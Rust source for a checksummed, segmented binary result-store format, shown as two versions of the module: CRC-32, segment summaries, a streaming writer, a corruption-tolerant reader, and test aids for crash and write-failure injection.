const MAX_FRAME: u64 = 1 << 32;

// --- CRC-32 (IEEE 802.3 polynomial, table-driven) -----------------------

const CRC_TABLE: [u32; 256] = {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut c = i as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 { 0xEDB8_8320 ^ (c >> 1) } else { c >> 1 };
            k += 1;
        }
        table[i] = c;
        i += 1;
    }
    table
};

/// Incremental CRC-32 (IEEE). `Crc32::new().update(a).update(b).finish()`
/// equals `crc32(a ++ b)`.
#[derive(Debug, Clone, Copy)]
pub struct Crc32(u32);

impl Crc32 {
    pub fn new() -> Self {
        Crc32(0xFFFF_FFFF)
    }

    pub fn update(mut self, bytes: &[u8]) -> Self {
        for &b in bytes {
            self.0 = CRC_TABLE[((self.0 ^ b as u32) & 0xFF) as usize] ^ (self.0 >> 8);
        }
        self
    }

    pub fn finish(self) -> u32 {
        self.0 ^ 0xFFFF_FFFF
    }
}

impl Default for Crc32 {
    fn default() -> Self {
        Crc32::new()
    }
}

/// One-shot CRC-32 of a byte slice.
pub fn crc32(bytes: &[u8]) -> u32 {
    Crc32::new().update(bytes).finish()
}

// --- Per-segment summaries ----------------------------------------------

/// Pre-folded per-snapshot statistics, written into every segment footer
/// at scan time so inspection never has to decode records.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct SegmentSummary {
    pub snapshot: Snapshot,
    /// Records in the segment.
    pub records: u32,
    /// Records with at least one analyzed page.
    pub domains_analyzed: u32,
    /// Records with at least one violation kind.
    pub domains_violating: u32,
    pub pages_found: u64,
    pub pages_analyzed: u64,
    pub pages_quarantined: u64,
}

impl SegmentSummary {
    /// Fold a snapshot's records into its summary — the single source of
    /// truth shared by the writer (footers), the loader (verification),
    /// and v0/in-memory stores (derived summaries).
    pub fn from_records<'a>(
        snapshot: Snapshot,
        records: impl IntoIterator<Item = &'a DomainYearRecord>,
    ) -> Self {
        let mut s = SegmentSummary {
            snapshot,
            records: 0,
            domains_analyzed: 0,
            domains_violating: 0,
            pages_found: 0,
            pages_analyzed: 0,
            pages_quarantined: 0,
        };
        for r in records {
            s.records += 1;
            s.domains_analyzed += u32::from(r.analyzed());
            s.domains_violating += u32::from(r.violating());
            s.pages_found += r.pages_found as u64;
            s.pages_analyzed += r.pages_analyzed as u64;
            s.pages_quarantined += r.pages_quarantined as u64;
        }
        s
    }

    /// Derive the per-snapshot summaries of an in-memory store (used for
    /// v0 loads and freshly scanned stores, where no footers exist).
    pub fn derive(store: &ResultStore) -> Vec<SegmentSummary> {
        Snapshot::ALL
            .iter()
            .map(|&snap| SegmentSummary::from_records(snap, store.by_snapshot(snap)))
            .filter(|s| s.records > 0)
            .collect()
    }
}

/// The header frame right after the magic: scan provenance.
#[derive(Debug, Clone, Copy, Serialize, Deserialize)]
struct Header {
    seed: u64,
    scale: f64,
    universe: usize,
}

// --- Writer --------------------------------------------------------------

/// Streaming v1 writer: segments are written (and checksummed, and
/// summarized) as they complete, so a scan never has to hold more than one
/// snapshot's records in memory.
pub struct StoreWriter<W: Write> {
    out: W,
    path: std::path::PathBuf,
    segments: Vec<SegmentSummary>,
    total_records: u64,
    last_snapshot: Option<Snapshot>,
}

impl StoreWriter<std::io::BufWriter<std::fs::File>> {
    /// Create a v1 store at `path` and write the magic + header.
    pub fn create(path: &Path, seed: u64, scale: f64, universe: usize) -> Result<Self, HvError> {
        let file = std::fs::File::create(path).map_err(|e| HvError::store_io(path, e))?;
        StoreWriter::new(std::io::BufWriter::new(file), path, seed, scale, universe)
    }
}

impl<W: Write> StoreWriter<W> {
    /// Write the magic + header to an arbitrary sink (`path` only labels
    /// errors).
    pub fn new(
        mut out: W,
        path: &Path,
        seed: u64,
        scale: f64,
        universe: usize,
    ) -> Result<Self, HvError> {
        let header = serde_json::to_string(&Header { seed, scale, universe })
            .map(String::into_bytes)
            .map_err(|e| HvError::store(path, e.to_string()))?;
        let mut frame = Vec::with_capacity(header.len() + 16);
        frame.extend_from_slice(&(header.len() as u32).to_le_bytes());
        frame.extend_from_slice(&header);
        frame.extend_from_slice(&crc32(&frame).to_le_bytes());
        out.write_all(&MAGIC)
            .and_then(|()| out.write_all(&frame))
            .map_err(|e| HvError::store_io(path, e))?;
        Ok(StoreWriter {
            out,
            path: path.to_path_buf(),
            segments: Vec::new(),
            total_records: 0,
            last_snapshot: None,
        })
    }

    fn io(&self, e: std::io::Error) -> HvError {
        HvError::store_io(&self.path, e)
    }

    /// Write one block: `tag [extra] [payload_len u64] payload crc32`,
    /// with the CRC covering everything from the tag on.
    fn write_block(&mut self, tag: u8, extra: &[u8], payload: &[u8]) -> Result<(), HvError> {
        let mut head = Vec::with_capacity(extra.len() + 9);
        head.push(tag);
        head.extend_from_slice(extra);
        head.extend_from_slice(&(payload.len() as u64).to_le_bytes());
        let crc = Crc32::new().update(&head).update(payload).finish();
        self.out
            .write_all(&head)
            .and_then(|()| self.out.write_all(payload))
            .and_then(|()| self.out.write_all(&crc.to_le_bytes()))
            .map_err(|e| self.io(e))
    }

    /// Write one snapshot's records as a segment. Segments must arrive in
    /// ascending snapshot order; records are sorted by domain id so the
    /// on-disk order is the store's canonical order.
    pub fn write_segment(
        &mut self,
        snapshot: Snapshot,
        records: &[DomainYearRecord],
    ) -> Result<SegmentSummary, HvError> {
        if self.last_snapshot.is_some_and(|last| snapshot <= last) {
            return Err(HvError::store(
                &self.path,
                format!("segments must be written in ascending snapshot order (got {snapshot} after {})",
                    self.last_snapshot.unwrap()),
            ));
        }
        self.last_snapshot = Some(snapshot);

        let mut sorted: Vec<&DomainYearRecord> = records.iter().collect();
        sorted.sort_by_key(|r| r.domain_id);
        let summary = SegmentSummary::from_records(snapshot, sorted.iter().copied());

        let mut payload = Vec::new();
        payload.extend_from_slice(&(sorted.len() as u32).to_le_bytes());
        for r in &sorted {
            let json = serde_json::to_string(r)
                .map(String::into_bytes)
                .map_err(|e| HvError::store(&self.path, e.to_string()))?;
            payload.extend_from_slice(&(json.len() as u32).to_le_bytes());
            payload.extend_from_slice(&json);
        }
        let footer = serde_json::to_string(&summary)
            .map(String::into_bytes)
            .map_err(|e| HvError::store(&self.path, e.to_string()))?;
        payload.extend_from_slice(&(footer.len() as u32).to_le_bytes());
        payload.extend_from_slice(&footer);

        self.write_block(TAG_SEGMENT, &[snapshot.0], &payload)?;
        self.total_records += sorted.len() as u64;
        self.segments.push(summary);
        Ok(summary)
    }

    /// Embed the scan's observability metrics.
    pub fn write_metrics(&mut self, metrics: &ScanMetrics) -> Result<(), HvError> {
        let json = serde_json::to_string(metrics)
            .map(String::into_bytes)
            .map_err(|e| HvError::store(&self.path, e.to_string()))?;
        self.write_block(TAG_METRICS, &[], &json)
    }

    /// Embed the quarantine audit entries (canonical order expected).
    pub fn write_quarantine(&mut self, entries: &[QuarantineEntry]) -> Result<(), HvError> {
        let json = serde_json::to_string(entries)
            .map(String::into_bytes)
            .map_err(|e| HvError::store(&self.path, e.to_string()))?;
        self.write_block(TAG_QUARANTINE, &[], &json)
    }

    /// Write the trailer and flush. Returns the per-segment summaries.
    pub fn finish(mut self) -> Result<Vec<SegmentSummary>, HvError> {
        let mut body = Vec::with_capacity(13);
        body.push(TAG_TRAILER);
        body.extend_from_slice(&(self.segments.len() as u32).to_le_bytes());
        body.extend_from_slice(&self.total_records.to_le_bytes());
        let crc = crc32(&body);
        self.out
            .write_all(&body)
            .and_then(|()| self.out.write_all(&crc.to_le_bytes()))
            .and_then(|()| self.out.flush())
            .map_err(|e| HvError::store_io(&self.path, e))?;
        Ok(std::mem::take(&mut self.segments))
    }
}

// --- Reader --------------------------------------------------------------

/// How a load behaves on corruption.
#[derive(Debug, Clone, Copy, Default)]
pub struct LoadOptions {
    /// Keep intact segments and report corrupt ones as
    /// [`DroppedSegment`]s instead of failing the whole load. The header
    /// must still verify — without it there is no store to speak of.
    pub allow_partial: bool,
}

/// One block dropped by a partial load.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DroppedSegment {
    /// Segment ordinal (0-based) for segment blocks; metrics/quarantine
    /// blocks and unrecoverable tails report the next ordinal.
    pub segment: u32,
    /// Byte offset of the dropped block's tag.
    pub offset: u64,
    pub detail: String,
}

/// The outcome of reading a v1 store.
pub struct V1Contents {
    pub seed: u64,
    pub scale: f64,
    pub universe: usize,
    pub records: Vec<DomainYearRecord>,
    pub metrics: Option<ScanMetrics>,
    pub quarantine: Vec<QuarantineEntry>,
    /// Footer summaries of the intact segments, in file order.
    pub segments: Vec<SegmentSummary>,
    /// Blocks a partial load had to drop (always empty on strict loads).
    pub dropped: Vec<DroppedSegment>,
}

struct Cursor<'a> {
    data: &'a [u8],
    pos: usize,
    path: &'a Path,
}

impl<'a> Cursor<'a> {
    fn corrupt(&self, segment: Option<u32>, offset: usize, detail: impl Into<String>) -> HvError {
        HvError::store_corrupt(self.path, segment, offset as u64, detail)
    }

    fn take(&mut self, n: usize, what: &str, segment: Option<u32>) -> Result<&'a [u8], HvError> {
        let start = self.pos;
        let end = start
            .checked_add(n)
            .filter(|&end| end <= self.data.len())
            .ok_or_else(|| self.corrupt(segment, start, format!("truncated {what}")))?;
        self.pos = end;
        Ok(&self.data[start..end])
    }

    fn u32_le(&mut self, what: &str, segment: Option<u32>) -> Result<u32, HvError> {
        Ok(u32::from_le_bytes(self.take(4, what, segment)?.try_into().unwrap()))
    }

    fn u64_le(&mut self, what: &str, segment: Option<u32>) -> Result<u64, HvError> {
        Ok(u64::from_le_bytes(self.take(8, what, segment)?.try_into().unwrap()))
    }
}

/// Parse a v1 store image. Strict mode returns the first integrity
/// failure as [`HvError::StoreCorrupt`]; with
/// [`LoadOptions::allow_partial`] corrupt segments are skipped (using the
/// framed length to resynchronize) and reported in
/// [`V1Contents::dropped`].
pub fn read_v1(data: &[u8], path: &Path, opts: LoadOptions) -> Result<V1Contents, HvError> {
    let mut cur = Cursor { data, pos: 0, path };
    if cur.take(MAGIC.len(), "magic", None)? != MAGIC {
        return Err(cur.corrupt(None, 0, "bad magic (not a v1 store)"));
    }

    // Header: the provenance triple. Non-negotiable even for partial
    // loads — without it there is no store identity.
    let header_start = cur.pos;
    let header_len = cur.u32_le("header length", None)?;
    if u64::from(header_len) > MAX_FRAME {
        return Err(cur.corrupt(None, header_start, "implausible header length"));
    }
    let header_json = cur.take(header_len as usize, "header", None)?;
    let stored_crc = cur.u32_le("header checksum", None)?;
    let actual = Crc32::new().update(&header_len.to_le_bytes()).update(header_json).finish();
    if stored_crc != actual {
        return Err(cur.corrupt(None, header_start, "header checksum mismatch"));
    }
    let header: Header = serde_json::from_slice(header_json)
        .map_err(|e| cur.corrupt(None, header_start, format!("header does not parse: {e}")))?;

    let mut out = V1Contents {
        seed: header.seed,
        scale: header.scale,
        universe: header.universe,
        records: Vec::new(),
        metrics: None,
        quarantine: Vec::new(),
        segments: Vec::new(),
        dropped: Vec::new(),
    };

    let mut segment_ordinal: u32 = 0;
    let mut saw_trailer = false;
    while cur.pos < data.len() {
        let block_start = cur.pos;
        match read_block(&mut cur, segment_ordinal, &mut out) {
            Ok(BlockOutcome::Segment) => segment_ordinal += 1,
            Ok(BlockOutcome::Other) => {}
            Ok(BlockOutcome::Trailer { segments, records }) => {
                saw_trailer = true;
                // The trailer's counts cross-check the walk — but only a
                // complete walk; a partial load with drops can't match.
                if out.dropped.is_empty()
                    && (segments != segment_ordinal || records != out.records.len() as u64)
                {
                    let e = cur.corrupt(None, block_start, "trailer counts do not match contents");
                    if !opts.allow_partial {
                        return Err(e);
                    }
                    out.dropped.push(DroppedSegment {
                        segment: segment_ordinal,
                        offset: block_start as u64,
                        detail: e.to_string(),
                    });
                }
                if cur.pos != data.len() {
                    let e = cur.corrupt(None, cur.pos, "trailing bytes after trailer");
                    if !opts.allow_partial {
                        return Err(e);
                    }
                    out.dropped.push(DroppedSegment {
                        segment: segment_ordinal,
                        offset: cur.pos as u64,
                        detail: e.to_string(),
                    });
                }
                break;
            }
            Err((recovery, e)) => {
                if !opts.allow_partial {
                    return Err(e);
                }
                out.dropped.push(DroppedSegment {
                    segment: segment_ordinal,
                    offset: block_start as u64,
                    detail: e.to_string(),
                });
                match recovery {
                    // The framing was intact (checksum or content failure
                    // inside the block): skip to the next block.
                    Recovery::Resync { next } => {
                        cur.pos = next;
                        segment_ordinal += 1;
                    }
                    // The framing itself is untrustworthy: drop the rest.
                    Recovery::Unrecoverable => {
                        return Ok(out);
                    }
                }
            }
        }
    }

    if !saw_trailer {
        let e = cur.corrupt(None, cur.pos, "missing trailer (truncated store)");
        if !opts.allow_partial {
            return Err(e);
        }
        out.dropped.push(DroppedSegment {
            segment: segment_ordinal,
            offset: cur.pos as u64,
            detail: e.to_string(),
        });
    }
    Ok(out)
}

enum BlockOutcome {
    Segment,
    Other,
    Trailer { segments: u32, records: u64 },
}

enum Recovery {
    /// Skip to this absolute offset (the byte after the block's CRC).
    Resync {
        next: usize,
    },
    Unrecoverable,
}

/// Read one block. On error, reports whether the caller can resynchronize
/// past it (framing verified in-bounds) or must give up.
fn read_block(
    cur: &mut Cursor<'_>,
    ordinal: u32,
    out: &mut V1Contents,
) -> Result<BlockOutcome, (Recovery, HvError)> {
    let block_start = cur.pos;
    let unrecoverable = |e: HvError| (Recovery::Unrecoverable, e);
    let tag = cur.take(1, "block tag", Some(ordinal)).map_err(unrecoverable)?[0];

    if tag == TAG_TRAILER {
        let body_start = block_start;
        let segments = cur.u32_le("trailer", None).map_err(unrecoverable)?;
        let records = cur.u64_le("trailer", None).map_err(unrecoverable)?;
        let stored = cur.u32_le("trailer checksum", None).map_err(unrecoverable)?;
        let actual = crc32(&cur.data[body_start..body_start + 13]);
        if stored != actual {
            return Err(unrecoverable(cur.corrupt(None, block_start, "trailer checksum mismatch")));
        }
        return Ok(BlockOutcome::Trailer { segments, records });
    }

    let seg = (tag == TAG_SEGMENT).then_some(ordinal);
    let snapshot_byte = if tag == TAG_SEGMENT {
        Some(cur.take(1, "segment snapshot", seg).map_err(unrecoverable)?[0])
    } else {
        None
    };
    if !matches!(tag, TAG_SEGMENT | TAG_METRICS | TAG_QUARANTINE) {
        return Err(unrecoverable(cur.corrupt(
            Some(ordinal),
            block_start,
            format!("unrecognized block tag 0x{tag:02x}"),
        )));
    }
    let payload_len = cur.u64_le("block length", seg).map_err(unrecoverable)?;
    if payload_len > MAX_FRAME {
        return Err(unrecoverable(cur.corrupt(seg, block_start, "implausible block length")));
    }
    let payload_start = cur.pos;
    let payload = cur.take(payload_len as usize, "block payload", seg).map_err(unrecoverable)?;
    let stored = cur.u32_le("block checksum", seg).map_err(unrecoverable)?;
    // From here on the framing is trusted: a failure can resync to `next`.
    let next = cur.pos;
    let resync = |e: HvError| (Recovery::Resync { next }, e);
    let actual =
        Crc32::new().update(&cur.data[block_start..payload_start]).update(payload).finish();
    if stored != actual {
        return Err(resync(cur.corrupt(seg, block_start, "block checksum mismatch")));
    }

    match tag {
        TAG_SEGMENT => {
            let snap = snapshot_byte.expect("segment has a snapshot byte");
            if usize::from(snap) >= Snapshot::ALL.len() {
                return Err(resync(cur.corrupt(
                    seg,
                    block_start,
                    format!("invalid snapshot index {snap}"),
                )));
            }
            let snapshot = Snapshot(snap);
            let (records, summary) =
                parse_segment_payload(payload, cur.path, ordinal, block_start).map_err(resync)?;
            if summary.snapshot != snapshot {
                return Err(resync(cur.corrupt(seg, block_start, "footer snapshot mismatch")));
            }
            let recomputed = SegmentSummary::from_records(snapshot, &records);
            if recomputed != summary {
                return Err(resync(cur.corrupt(
                    seg,
                    block_start,
                    "footer summary does not match segment records",
                )));
            }
            out.records.extend(records);
            out.segments.push(summary);
            Ok(BlockOutcome::Segment)
        }
        TAG_METRICS => {
            let metrics: ScanMetrics = serde_json::from_slice(payload).map_err(|e| {
                resync(cur.corrupt(None, block_start, format!("metrics block does not parse: {e}")))
            })?;
            out.metrics = Some(metrics);
            Ok(BlockOutcome::Other)
        }
        TAG_QUARANTINE => {
            let entries: Vec<QuarantineEntry> = serde_json::from_slice(payload).map_err(|e| {
                resync(cur.corrupt(
                    None,
                    block_start,
                    format!("quarantine block does not parse: {e}"),
                ))
            })?;
            out.quarantine = entries;
            Ok(BlockOutcome::Other)
        }
        _ => unreachable!("tag validated above"),
    }
}

/// Decode a (checksum-verified) segment payload into its records + footer.
fn parse_segment_payload(
    payload: &[u8],
    path: &Path,
    ordinal: u32,
    block_start: usize,
) -> Result<(Vec<DomainYearRecord>, SegmentSummary), HvError> {
    let mut cur = Cursor { data: payload, pos: 0, path };
    let seg = Some(ordinal);
    let bad = |detail: String| HvError::store_corrupt(path, seg, block_start as u64, detail);
    let count =
        cur.u32_le("record count", seg).map_err(|_| bad("truncated record count".into()))?;
    let mut records = Vec::with_capacity(count.min(1 << 20) as usize);
    for i in 0..count {
        let len =
            cur.u32_le("record length", seg).map_err(|_| bad(format!("truncated record {i}")))?;
        let json = cur
            .take(len as usize, "record", seg)
            .map_err(|_| bad(format!("truncated record {i}")))?;
        let record: DomainYearRecord = serde_json::from_slice(json)
            .map_err(|e| bad(format!("record {i} does not parse: {e}")))?;
        records.push(record);
    }
    let len = cur.u32_le("footer length", seg).map_err(|_| bad("truncated footer".into()))?;
    let json = cur.take(len as usize, "footer", seg).map_err(|_| bad("truncated footer".into()))?;
    let summary: SegmentSummary =
        serde_json::from_slice(json).map_err(|e| bad(format!("footer does not parse: {e}")))?;
    if cur.pos != payload.len() {
        return Err(bad("trailing bytes in segment payload".into()));
    }
    Ok((records, summary))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_matches_known_vectors() {
        // IEEE CRC-32 check value for "123456789".
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
        // Incremental equals one-shot.
        let inc = Crc32::new().update(b"1234").update(b"56789").finish();
        assert_eq!(inc, crc32(b"123456789"));
    }

    #[test]
    fn segment_summary_folds_records() {
        let mut r = crate::store::test_record(3, 0, &[hv_core::ViolationKind::FB2]);
        r.pages_quarantined = 2;
        let clean = crate::store::test_record(4, 0, &[]);
        let s = SegmentSummary::from_records(Snapshot::ALL[0], &[r, clean]);
        assert_eq!(s.records, 2);
        assert_eq!(s.domains_analyzed, 2);
        assert_eq!(s.domains_violating, 1);
        assert_eq!(s.pages_found, 20);
        assert_eq!(s.pages_analyzed, 20);
        assert_eq!(s.pages_quarantined, 2);
    }
}
