//! The v1 segmented binary store format — framing, checksums, writer and
//! reader.
//!
//! A v1 store is an append-only sequence of checksummed blocks:
//!
//! ```text
//! "HVSTORE1"                                  8-byte magic
//! [len u32][header JSON][crc32]               seed / scale / universe
//! 0x01 [snap u8][payload_len u64][payload][crc32]   one segment per snapshot
//! 0x02 [payload_len u64][metrics JSON][crc32]       optional
//! 0x03 [payload_len u64][quarantine JSON][crc32]    optional
//! 0xFF [segments u32][records u64][crc32]           trailer
//! ```
//!
//! A segment's payload is `[count u32]` followed by `count` length-prefixed
//! [`DomainYearRecord`] JSON frames and one length-prefixed footer frame
//! carrying the pre-folded [`SegmentSummary`] — so `hva store inspect` and
//! `/v1/store/summary` can report per-snapshot statistics without decoding
//! a single record.
//!
//! A segment's payload optionally ends with one more length-prefixed
//! frame carrying the snapshot's [`QuarantineEntry`] list — quarantine
//! travels *with* its segment, so a crash-and-resume never loses the
//! audit trail of a completed snapshot. Stores written before this frame
//! existed (no trailing frame, or a standalone `0x03` block) keep
//! loading unchanged.
//!
//! Integrity: every byte after the magic is covered by exactly one CRC-32
//! (the length prefixes are inside their block's checksum), and the
//! trailer makes truncation detectable. Any single-byte corruption
//! therefore surfaces as a structured [`HvError::StoreCorrupt`] naming the
//! segment and byte offset — never a panic, never silently wrong numbers.
//! [`read_v1`] with [`LoadOptions::allow_partial`] instead skips corrupt
//! segments (resynchronizing via the framed `payload_len`) and reports
//! what was dropped.
//!
//! Durability: the streaming writer ([`StoreWriter::create`] /
//! [`StoreWriter::resume`]) fsyncs the header and every segment boundary,
//! so a crash at *any* point leaves a valid prefix on disk — magic +
//! header + N complete CRC'd segments, no trailer. [`scan_prefix`]
//! validates such a prefix and [`StoreWriter::resume`] truncates the torn
//! tail and appends from there. One-shot writers
//! ([`ResultStore::save_as`](crate::store::ResultStore::save_as)) instead
//! write a temp sibling, fsync it, rename it into place, and fsync the
//! parent directory, so readers never observe a torn store.

use crate::metrics::ScanMetrics;
use crate::outcome::QuarantineEntry;
use crate::store::{DomainYearRecord, ResultStore};
use hv_core::HvError;
use hv_corpus::Snapshot;
use serde::{Deserialize, Serialize};
use std::fs::File;
use std::io::{self, BufWriter, Read, Seek, SeekFrom, Write};
use std::path::Path;

/// File magic of the v1 binary format. The first byte can never be `{`,
/// so [`ResultStore::load`] can sniff v0 JSON vs v1 binary.
pub const MAGIC: [u8; 8] = *b"HVSTORE1";

const TAG_SEGMENT: u8 = 0x01;
const TAG_METRICS: u8 = 0x02;
const TAG_QUARANTINE: u8 = 0x03;
const TAG_TRAILER: u8 = 0xFF;

/// Upper bound accepted for any length prefix: a corrupted length field
/// must not trigger a multi-gigabyte allocation before the CRC catches it.
const MAX_FRAME: u64 = 1 << 32;

// --- CRC-32 (IEEE 802.3 polynomial, table-driven) -----------------------

const CRC_TABLE: [u32; 256] = {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut c = i as u32;
        let mut k = 0;
        while k < 8 {
            c = if c & 1 != 0 { 0xEDB8_8320 ^ (c >> 1) } else { c >> 1 };
            k += 1;
        }
        table[i] = c;
        i += 1;
    }
    table
};

/// Incremental CRC-32 (IEEE). `Crc32::new().update(a).update(b).finish()`
/// equals `crc32(a ++ b)`.
#[derive(Debug, Clone, Copy)]
pub struct Crc32(u32);

impl Crc32 {
    pub fn new() -> Self {
        Crc32(0xFFFF_FFFF)
    }

    pub fn update(mut self, bytes: &[u8]) -> Self {
        for &b in bytes {
            self.0 = CRC_TABLE[((self.0 ^ b as u32) & 0xFF) as usize] ^ (self.0 >> 8);
        }
        self
    }

    pub fn finish(self) -> u32 {
        self.0 ^ 0xFFFF_FFFF
    }
}

impl Default for Crc32 {
    fn default() -> Self {
        Crc32::new()
    }
}

/// One-shot CRC-32 of a byte slice.
pub fn crc32(bytes: &[u8]) -> u32 {
    Crc32::new().update(bytes).finish()
}

// --- Per-segment summaries ----------------------------------------------

/// Pre-folded per-snapshot statistics, written into every segment footer
/// at scan time so inspection never has to decode records.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct SegmentSummary {
    pub snapshot: Snapshot,
    /// Records in the segment.
    pub records: u32,
    /// Records with at least one analyzed page.
    pub domains_analyzed: u32,
    /// Records with at least one violation kind.
    pub domains_violating: u32,
    pub pages_found: u64,
    pub pages_analyzed: u64,
    pub pages_quarantined: u64,
}

impl SegmentSummary {
    /// Fold a snapshot's records into its summary — the single source of
    /// truth shared by the writer (footers), the loader (verification),
    /// and v0/in-memory stores (derived summaries).
    pub fn from_records<'a>(
        snapshot: Snapshot,
        records: impl IntoIterator<Item = &'a DomainYearRecord>,
    ) -> Self {
        let mut s = SegmentSummary {
            snapshot,
            records: 0,
            domains_analyzed: 0,
            domains_violating: 0,
            pages_found: 0,
            pages_analyzed: 0,
            pages_quarantined: 0,
        };
        for r in records {
            s.records += 1;
            s.domains_analyzed += u32::from(r.analyzed());
            s.domains_violating += u32::from(r.violating());
            s.pages_found += r.pages_found as u64;
            s.pages_analyzed += r.pages_analyzed as u64;
            s.pages_quarantined += r.pages_quarantined as u64;
        }
        s
    }

    /// Derive the per-snapshot summaries of an in-memory store (used for
    /// v0 loads and freshly scanned stores, where no footers exist).
    pub fn derive(store: &ResultStore) -> Vec<SegmentSummary> {
        Snapshot::ALL
            .iter()
            .map(|&snap| SegmentSummary::from_records(snap, store.by_snapshot(snap)))
            .filter(|s| s.records > 0)
            .collect()
    }
}

/// The header frame right after the magic: scan provenance. Public so
/// resume callers can report what an existing store was written with.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct StoreHeader {
    pub seed: u64,
    pub scale: f64,
    pub universe: usize,
}

// --- Sinks ----------------------------------------------------------------

/// A writer the store can ask to make its bytes durable. `sync` must not
/// return until everything written so far survives a crash of the process
/// *and* the machine (an fsync for files; a no-op for memory sinks).
pub trait StoreSink: Write {
    fn sync(&mut self) -> io::Result<()>;
}

/// Memory sink for tests and byte-level tooling; durability is trivial.
impl StoreSink for Vec<u8> {
    fn sync(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// Mutable borrows delegate, so a caller can keep the underlying sink
/// (and inspect its bytes) after the writer is dropped mid-failure.
impl<S: StoreSink> StoreSink for &mut S {
    fn sync(&mut self) -> io::Result<()> {
        (**self).sync()
    }
}

/// Name of the environment variable carrying the crash fuse: when set to
/// an integer N, a [`FileSink`] opened by [`StoreWriter::create`] /
/// [`StoreWriter::resume`] writes until the file holds exactly N bytes,
/// then SIGKILLs its own process. Exists solely so the crash-recovery
/// tests and CI job can kill `hva scan` at byte-deterministic points.
pub const CRASH_AFTER_ENV: &str = "HV_STORE_CRASH_AFTER";

/// Buffered file sink that tracks its absolute write position and
/// optionally carries the [`CRASH_AFTER_ENV`] crash fuse.
pub struct FileSink {
    out: BufWriter<File>,
    /// Absolute file position — bytes 0..written are on their way to disk.
    written: u64,
    /// Kill the process once the file holds exactly this many bytes.
    crash_after: Option<u64>,
}

impl FileSink {
    /// Create (truncate) `path`. No crash fuse: one-shot writers go
    /// through temp + rename and must not be fused mid-copy.
    pub fn create(path: &Path) -> io::Result<FileSink> {
        Ok(FileSink { out: BufWriter::new(File::create(path)?), written: 0, crash_after: None })
    }

    /// Wrap an already-positioned file (used by resume, which appends at
    /// `written`).
    fn at(file: File, written: u64) -> FileSink {
        FileSink { out: BufWriter::new(file), written, crash_after: None }
    }

    /// Arm the crash fuse from [`CRASH_AFTER_ENV`], if set.
    fn armed(mut self) -> FileSink {
        self.crash_after = std::env::var(CRASH_AFTER_ENV).ok().and_then(|v| v.parse().ok());
        self
    }
}

/// Die the way a power cut does: no unwinding, no buffer flushes beyond
/// what already reached the OS, no atexit handlers.
fn kill_self() -> ! {
    let pid = std::process::id().to_string();
    let _ = std::process::Command::new("kill").args(["-9", &pid]).status();
    // If no `kill` binary exists, abort still dies without cleanup.
    std::process::abort();
}

impl Write for FileSink {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        if let Some(fuse) = self.crash_after {
            if self.written + buf.len() as u64 >= fuse {
                // Top the file up to exactly `fuse` bytes. The flush only
                // moves them to the OS page cache — which survives SIGKILL,
                // exactly like a real crash losing userspace buffers.
                let allowed = fuse.saturating_sub(self.written) as usize;
                let _ = self.out.write_all(&buf[..allowed]);
                let _ = self.out.flush();
                kill_self();
            }
        }
        let n = self.out.write(buf)?;
        self.written += n as u64;
        Ok(n)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }
}

impl StoreSink for FileSink {
    fn sync(&mut self) -> io::Result<()> {
        self.out.flush()?;
        self.out.get_ref().sync_data()
    }
}

/// Deterministic fault injector: forwards writes until `budget` bytes
/// have passed, then fails every further write. Sweeping `budget` across
/// a store's full length exercises an I/O failure at every byte boundary.
pub struct FailingWriter<W> {
    inner: W,
    budget: usize,
}

impl<W> FailingWriter<W> {
    pub fn new(inner: W, budget: usize) -> Self {
        FailingWriter { inner, budget }
    }

    /// The wrapped sink (holding exactly the bytes written before the
    /// failure).
    pub fn into_inner(self) -> W {
        self.inner
    }
}

impl<W: Write> Write for FailingWriter<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        if self.budget == 0 {
            return Err(io::Error::other("injected write failure"));
        }
        let n = self.budget.min(buf.len());
        self.inner.write_all(&buf[..n])?;
        self.budget -= n;
        Ok(n)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }
}

impl<W: StoreSink> StoreSink for FailingWriter<W> {
    fn sync(&mut self) -> io::Result<()> {
        self.inner.sync()
    }
}

// --- Writer --------------------------------------------------------------

/// Streaming v1 writer: segments are written (and checksummed, and
/// summarized) as they complete, so a scan never has to hold more than one
/// snapshot's records in memory.
///
/// Two durability modes. [`StoreWriter::create`] / [`StoreWriter::resume`]
/// write in place and fsync the header and every segment boundary, so a
/// crash leaves a valid resumable prefix. [`StoreWriter::new`] (arbitrary
/// sinks, including the temp files behind
/// [`ResultStore::save_as`](crate::store::ResultStore::save_as)) skips the
/// per-segment fsyncs and only syncs in [`StoreWriter::finish`].
pub struct StoreWriter<W: StoreSink> {
    out: W,
    path: std::path::PathBuf,
    segments: Vec<SegmentSummary>,
    total_records: u64,
    last_snapshot: Option<Snapshot>,
    /// fsync after the header and each segment (crash-safe streaming
    /// mode); one-shot writers leave it off and sync once in `finish`.
    sync_segments: bool,
}

/// What [`StoreWriter::resume`] found at the target path.
pub enum Resumed {
    /// The store is already complete (valid through its trailer); there
    /// is nothing to append.
    Complete { segments: Vec<SegmentSummary> },
    /// A writer positioned after the last intact segment. `truncated`
    /// counts the torn-tail bytes that were cut (0 when the prefix ended
    /// cleanly or the file was new).
    Partial { writer: StoreWriter<FileSink>, truncated: u64 },
}

impl StoreWriter<FileSink> {
    /// Create a v1 store at `path` and durably write the magic + header.
    ///
    /// Refuses to clobber an existing non-empty file — callers must opt
    /// in via [`StoreWriter::resume`] or [`StoreWriter::create_overwrite`].
    pub fn create(path: &Path, seed: u64, scale: f64, universe: usize) -> Result<Self, HvError> {
        if std::fs::metadata(path).is_ok_and(|m| m.len() > 0) {
            return Err(HvError::store_exists(path));
        }
        Self::create_overwrite(path, seed, scale, universe)
    }

